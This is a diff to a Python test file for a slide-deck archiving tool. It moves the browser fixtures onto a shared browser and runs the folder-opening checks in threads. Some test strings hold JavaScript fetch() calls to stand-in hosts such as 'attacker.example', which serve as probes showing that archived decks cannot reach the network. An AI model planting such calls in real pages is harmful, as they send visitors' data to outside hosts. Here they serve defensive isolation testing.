@@ -6,11 +6,11 @@ import json
 import os
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, sync_playwright
 
 from deckarchive import screenshots
 from deckarchive.bundle import bundle
@@ -18,7 +18,7 @@ from deckarchive.errors import ArchiveError
 from deckarchive.present import present
 from deckarchive.rehearse import rehearse
 from deckarchive.server import DeadProxy, Server
-from tests.browsers import launch
+from tests.browsers import SharedBrowser
 from tests.firefox import firefox, needs_firefox
 from tests.isolation.served import COPY, SERVERS, ask, free_port, offline_folder, served
 
@@ -68,19 +68,16 @@ fetch("http://inner-fetch.attacker.example/", { mode: "no-cors" }).catch(() => 0
 
 
 @pytest.fixture(scope="module", params=["chromium", pytest.param("firefox", marks=needs_firefox)])
-def browser(request: Any) -> Iterator[tuple[Browser, DeadProxy]]:
+def browser(request: Any, shared_browser: SharedBrowser) -> Iterator[tuple[Any, DeadProxy]]:
     with DeadProxy() as witness:
-        if request.param == "firefox":
-            with firefox(witness) as running:
-                yield running, witness
+        if request.param == "chromium":
+            yield shared_browser.behind(witness.url), witness
             return
-        with sync_playwright() as playwright:
-            running = launch(playwright, witness.url)
+        with firefox(witness, playwright=shared_browser.playwright) as running:
             yield running, witness
-            running.close()
 
 
-def new_context(browser: Browser) -> Any:
+def new_context(browser: Any) -> Any:
     return browser.new_context(
         color_scheme="null", reduced_motion="null", forced_colors="null", contrast="null"
     )
@@ -89,7 +86,7 @@ def new_context(browser: Browser) -> Any:
 @pytest.mark.browser
 @pytest.mark.parametrize("server", SERVERS)
 def test_what_a_deck_keeps_in_the_browser_is_its_own(
-    browser: tuple[Browser, DeadProxy], server: str, tmp_path: Path
+    browser: tuple[Any, DeadProxy], server: str, tmp_path: Path
 ) -> None:
     """The same deck finds it again, the next deck at the same address finds nothing."""
     port = free_port()
@@ -117,7 +114,7 @@ def test_what_a_deck_keeps_in_the_browser_is_its_own(
 
 @pytest.mark.browser
 def test_a_page_without_a_policy_is_held_to_the_decks(
-    browser: tuple[Browser, DeadProxy], tmp_path: Path
+    browser: tuple[Any, DeadProxy], tmp_path: Path
 ) -> None:
     running, witness = browser
     worker = 'fetch("http://file-worker.attacker.example/", { mode: "no-cors" })'
@@ -187,9 +184,10 @@ def test_what_a_folder_says_of_itself_is_bounded(kind: str, tmp_path: Path) -> N
         expected = "is not what deckarchive writes"
     if kind not in ("pipe", "device"):
         about.write_text(json.dumps(data))
-    for opens in (present, rehearse, bundle):
-        with pytest.raises(ArchiveError, match=expected):
-            opens(folder)
+    with ThreadPoolExecutor() as threads:  # where no test's browser has its event loop
+        for opens in (present, rehearse, bundle):
+            with pytest.raises(ArchiveError, match=expected):
+                threads.submit(opens, folder).result(30)
 
 
 def test_a_picture_that_is_a_pipe_is_none(tmp_path: Path) -> None:
